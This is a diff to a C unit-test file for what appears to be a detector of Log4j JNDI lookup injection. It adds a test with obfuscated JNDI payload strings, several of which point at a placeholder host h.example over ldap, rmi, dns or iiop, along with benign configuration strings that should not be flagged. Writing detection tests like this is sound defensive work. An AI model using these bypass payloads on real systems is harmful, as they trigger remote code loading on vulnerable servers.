@@ -261,6 +261,43 @@ static void dead_tries(void **state)
     RUN(rows);
 }
 
+/* Nothing that a brace or a blank would mend, and yet nobody writes them for another reason. */
+static void tries_that_spell(void **state)
+{
+    static const struct judge_row rows[] = {
+        /* words of letters that lookups give, as lists of bypasses have them without what goes around */
+        ROW("j${::-nD}i${::-:}", "attempt"),
+        ROW("jn${env::-}di:", "attempt"),
+        ROW("jn${date:}di${date:':'}", "attempt"),
+        ROW("j${loWer:Nd}i${uPper::}", "attempt"),
+        ROW("j${k8s:k5:-ND}i${sd:k5:-:}", "attempt"),
+        ROW("j${main:\\k5:-Nd}i${spring:k5:-:}", "attempt"),
+        ROW("j${sys:k5:-nD}${lower:i${web:k5:-:}}", "attempt"),
+        ROW("${::-l}${::-d}${::-a}${::-p}", "attempt"),
+        ROW("${:a:d:-${lower:j}n}di:", "attempt"),
+        ROW("${a} ${b:c} text, then jnd${upper:\xc4\xb1}", "attempt"),
+        ROW("${lower:jndi}", "attempt"),
+        ROW("${lower:${:a:d:-${lower:}}jndi:}", "attempt"),
+        /* a name hidden in front of an address, which is none in the end */
+        ROW("${${hostName:-j}ndi:ldap://h.example/a}", "attempt"),
+        ROW("${j${date:''}ndi:ldap://h.example/a}", "attempt"),
+        ROW("${jn${date:' '}di:rmi://h.example/a}", "attempt"),
+        ROW("${${date:''j''}${date:''n''}${date:''d''}${date:''i''}:ldap://h.example/a}", "attempt"), /* as SQL logs quotes */
+        ROW("${${urlDecoder:%6a%6e%64%69}:ldap://h.example/a}", "attempt"),
+        ROW("${${const:java.lang.String.CASE}:dns://h.example/a}", "attempt"),
+        /* an address given to another lookup */
+        ROW("${date:ldap://h.example/a}", "attempt"),
+        ROW("${lower:ldap://h.example/a}", "attempt"),
+        ROW("${java:rmi://h.example/a}", "attempt"),
+        ROW("${env:ldap://h.example/a}", "attempt"),
+        ROW("${MARKER:iiop://h.example/a", "attempt"),
+        /* base64 that holds a lookup, cut */
+        ROW("${base64:JHtqbmRp", "attempt"),
+    };
+    (void)state;
+    RUN(rows);
+}
+
 static void ordinary_text(void **state)
 {
     static const char *const texts[] = {
@@ -278,6 +315,10 @@ static void ordinary_text(void **state)
         "/static/js/app.0123456789abcdef0123456789abcdef.js", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
         "session=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "${${}}", "${${x}}", "${x:${y}}", "}}}}${{{{", "${{ github.ref }}",
         "${=NA()}", "${7*7}", "${T(java.lang.Runtime)}",
+        "${LDAP_URL:ldap://localhost:389}", "${LDAP_URL:-ldap://localhost:389}", "${a.url:ldap://localhost:${a.port:8389}}",
+        "${PROTO:-ldap}://${HOST:-openldap}:${PORT:-389}", "${${PREFIX}:ldap://localhost}", "service:jmx:rmi:///jndi/rmi://${H:-h}:${P:-1}/jmxrmi",
+        "jndi: ${name:x}, ldap: ${url:y}", "${NAMING:-jndi}:${x:-y}", "${jndi.name:java:comp/env/jdbc/ds}", "${x:-j}son ${y:-indi}",
+        "${dns:address|h.example} dns://${NAMESPACE:-default}", "${base64:aGVsbG8gd29ybGQ=}", "${docker.image:-ldap}", "${a:-per}mit",
     };
     struct judge_row rows[sizeof texts / sizeof *texts];
     (void)state;
@@ -291,7 +332,7 @@ int main(void)
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(names_that_connect),      cmocka_unit_test(hidden_characters), cmocka_unit_test(only_some_releases),
         cmocka_unit_test(conditional_and_leaking), cmocka_unit_test(recursion),         cmocka_unit_test(reaches_without_connecting),
-        cmocka_unit_test(dead_tries),              cmocka_unit_test(ordinary_text),
+        cmocka_unit_test(dead_tries),              cmocka_unit_test(tries_that_spell),  cmocka_unit_test(ordinary_text),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
